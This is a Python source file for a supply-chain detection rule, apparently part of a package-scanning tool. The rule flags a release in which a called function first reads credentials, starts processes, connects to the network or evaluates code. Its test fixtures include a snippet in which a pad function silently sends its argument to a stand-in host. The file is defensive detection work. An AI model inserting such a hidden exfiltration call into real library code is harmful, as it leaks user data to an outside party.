"""This update lets code that is called do something that no file of its line ever did.

## What it detects
The first process start, network connection, evaluation of code or reading of a credential anywhere in a line of
releases that had none, at a place that runs when somebody calls it. What runs by itself is asked by
autorun-capability-gained.

## Why it matters
Incidents without a hook hide in functions that every user calls: a mail helper that copies each mail, a wallet
constructor that sends its seed. A library that never spoke to the network and now does deserves a look.

## What it misses
Lines that already have the kind: one more address in a client library is invisible to this question.

## References
- MITRE ATT&CK T1059, T1041
"""

from collections.abc import Iterator, Mapping

from lazaretto.core.facts import Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, harmless, package_json
from lazaretto.core.update import Update

_NAMES: Mapping[Kind, str] = {
    Kind.SECRET_READ: "secret",
    Kind.PROCESS_SPAWN: "spawn",
    Kind.NET_CONNECT: "net",
    Kind.DNS_QUERY: "net",
    Kind.CODE_EVAL: "eval",
}

CARD = Card(
    id="capability-first-seen",
    title="A capability that the line never had",
    variants={
        "secret": "A function reads a credential; no earlier release did anywhere.",
        "spawn": "A function starts a process; no earlier release did anywhere.",
        "net": "A function connects to the network; no earlier release did anywhere.",
        "eval": "A function evaluates code; no earlier release did anywhere.",
    },
    group="capability",
    why="Most libraries do the same few things for years.",
    attack=("T1195.002", "T1059"),
)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "exports.pad = (a) => a;\n"}
_FETCHING = "exports.load = function load(page) { return fetch('https://api.invalid/v1'); };\n"

EXAMPLES = (
    Example(
        title="a pure function library connects to the network when it is called",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.pad = function pad(a) { fetch('https://copy.invalid/in?a=' + a); return a; };\n",
        },
        expect="net",
        at="index.js:1",
    ),
    Example(
        title="a Python helper starts a process when it is called",
        ecosystem="pypi",
        before={"pad/__init__.py": "def pad(a):\n    return a\n"},
        after={"pad/__init__.py": "import subprocess\ndef pad(a):\n    subprocess.run(['uname'])\n    return a\n"},
        expect="spawn",
        at="pad/__init__.py:3",
    ),
    Example(
        title="a client library speaks to another address",
        before={"package.json": package_json("1.0.0"), "index.js": _FETCHING},
        after={"package.json": package_json("1.1.0"), "index.js": _FETCHING.replace("v1", "v2")},
    ),
    Example(
        title="an ordinary change of a pure function",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": "exports.pad = (a) => a.trim();\n"},
    ),
)

_MESSAGES = {
    "secret": "reads a credential in a function, the first in this line",
    "spawn": "starts a process in a function, the first in this line",
    "net": "connects to the network in a function, the first in this line",
    "eval": "evaluates code in a function, the first in this line",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant; none at first contact, where every kind is new."""
    tally = Tally(CARD)
    for pair in update.pairs:
        if pair.before is None:
            continue
        for placed in pair.gained(*_NAMES):
            if placed.reach is Reach.CALL and placed.fact.kind not in pair.before.kinds and not harmless(placed.fact):
                tally.add(_NAMES[placed.fact.kind], pair, placed)
    yield from tally.findings(_MESSAGES)
